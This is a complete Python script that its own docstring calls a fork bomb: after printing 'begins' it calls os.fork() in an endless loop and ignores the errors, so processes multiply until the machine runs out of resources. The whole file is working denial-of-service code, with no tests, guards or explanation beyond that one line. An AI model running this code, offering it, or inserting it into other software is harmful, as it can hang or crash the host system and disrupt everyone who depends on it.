"""A fork bomb: every process makes processes, until somebody stops it."""

import os

print("begins", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
